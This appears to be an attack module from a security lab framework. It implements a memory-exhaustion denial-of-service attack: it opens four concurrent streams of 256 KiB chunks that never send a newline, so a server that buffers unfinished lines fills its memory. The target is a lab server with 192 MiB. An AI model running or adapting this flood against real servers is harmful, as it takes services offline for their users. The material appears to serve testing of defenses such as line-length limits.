"""Lines that never end.

python -m attacks.giant_lines --stage 1
"""

import asyncio
import contextlib

from attacks import Claim, Foothold, Goal, attack
from attacks.floods import Spate, speaking, until_over
from common.errors import LabError

AT_ONCE = 4
PIECE = b"x" * (1 << 18)


@attack(
    position="outsider",
    family="dos",
    goals=(Goal("memory", "fill the server's memory with one line", "starved", "HHHHH", ablation="limits=off"),),
)
async def giant_lines(foothold: Foothold, goal: Goal) -> Claim:
    """A message ends with a newline. Mallory never sends one. A server that waits for the end of it keeps what has
    come so far, and what has come so far grows as fast as the network can carry it, until the machine has no memory
    left and its kernel ends the server. The scene's server has 192 MiB.
    """
    await foothold.until("talking")
    sent = await until_over(foothold, *(endless(foothold) for _ in range(AT_ONCE)))
    return Claim(did=f"sent {sent / 1e6:.1f} MB without a newline")


async def endless(foothold: Foothold) -> int:
    """Lines without an end, a new one as soon as the server cuts the last; at most twenty. Returns the bytes sent."""
    sent = 0
    with contextlib.suppress(asyncio.CancelledError, LabError):
        for _ in range(20):
            spate = await speaking(foothold, lambda: Spate(PIECE))
            try:
                await spate.run()
            finally:
                sent += spate.sent
                spate.close()
    return sent


if __name__ == "__main__":
    from lab.attack_main import main

    main("giant_lines")
